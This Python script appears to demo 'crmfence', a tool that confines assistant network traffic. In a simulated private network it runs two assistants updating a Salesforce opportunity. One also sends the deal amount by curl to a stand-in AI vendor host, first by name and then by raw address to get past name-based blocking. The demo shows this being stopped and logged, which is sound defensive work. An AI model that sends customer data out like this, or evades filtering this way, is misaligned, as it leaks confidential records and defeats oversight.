# SPDX-License-Identifier: Apache-2.0
"""The story, played in the private internet: an assistant that behaves, and one that also ships the deal to an AI vendor. First without
crmfence, then with it, side by side; what left is what a sniffer and the servers saw."""
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import world as W  # noqa: E402

BOLD, DIM, RED, GREEN, END = ("\033[1m", "\033[2m", "\033[31m", "\033[32m", "\033[0m") if sys.stdout.isatty() else ("",) * 5
ORG, OPP = "https://acme.my.salesforce.com", "006000000000001AAA"


def say(text=""):
    print(text, flush=True)


def assistant(w, vendor, token, confined):
    """Update the opportunity's stage and amount over the REST API; the second one also posts the deal to a vendor."""
    code, out = w.run("curl", "-sS", "-m", "10", "-X", "PATCH", "-H", "Authorization: Bearer 00D5f000000J2PK!demo", "-H",
                      "Content-Type: application/json", "-d", '{"StageName":"Negotiation","Amount":250000,"NextStep":"%s"}' % token,
                      "%s/services/data/v60.0/sobjects/Opportunity/%s" % (ORG, OPP), confined=confined)
    said = ["PATCH Opportunity %s  StageName, Amount   %s" % (OPP, "done" if code == 0 else "FAILED: " + out.strip())]
    if vendor:
        for what, args in (("by its name", []), ("by its address", ["--resolve", "api.ai-vendor.example:443:" + W.AI])):
            code, out = w.run("curl", "-sS", "-m", "10", *args, "-d", "Acme deal 250000 %s" % token, "https://api.ai-vendor.example/v1/chat",
                              confined=confined)
            said.append("POST the deal to api.ai-vendor.example, %-15s %s" % (what, "sent" if code == 0 else "error: " + out.strip()[:70]))
    return said


def arrived(w, token):
    return sorted({x.replace("server ", "") for x in w.arrived(token)})


def play(w, confined):
    tokens = W.PREFIX + "beef%04d" % (1 + 2 * confined), W.PREFIX + "dead%04d" % (1 + 2 * confined)
    for name, vendor, token in (("the assistant that behaves", False, tokens[0]), ("the assistant that also ships the deal", True, tokens[1])):
        say("  %s" % name)
        for line in assistant(w, vendor, token, confined):
            say("    " + line)
        say("    the deal arrived at: %s" % ", ".join((GREEN if "salesforce" in x else RED) + x + END for x in arrived(w, token)))
    return arrived(w, tokens[1])


def main():
    say("%sA private internet: the Salesforce org acme, an AI vendor, a resolver, a sniffer. Nothing leaves this machine.%s" % (DIM, END))
    w = W.World()
    try:
        say("\n%s1. Without crmfence%s" % (BOLD, END))
        before = play(w, False)
        w.start()
        say("\n%s2. With crmfence: both run as sessions of voice-assistant%s" % (BOLD, END))
        after = play(w, True)
        w.rows()
        say("\n%s3. The record of both%s   $ crmfence flows" % (BOLD, END))
        say(W.sh(W.BUILD + "/crmfence", "flows", "--db", w.db).stdout)
        last = [r for r in w.rows("deny") if r["reason"] == "address-unknown"][-1]
        say("%s   $ crmfence why %d%s" % (BOLD, last["id"], END))
        say(W.sh(W.BUILD + "/crmfence", "why", "--db", w.db, str(last["id"])).stdout)
        w.stop()
        say("%s   $ crmfence verify%s" % (BOLD, END))
        say(W.sh(W.BUILD + "/crmfence", "verify", "--db", w.db).stdout)
        left = [x for x in after if "salesforce" not in x]
        if not [x for x in before if "salesforce" not in x] or left:
            say("%sThe demo did not show what it should: before %s, after %s%s" % (RED, before, after, END))
            return 1
        say("Left the org without crmfence: the deal. With it: nothing, and the assistant's own work was done.")
        return 0
    finally:
        w.close()


sys.exit(main())
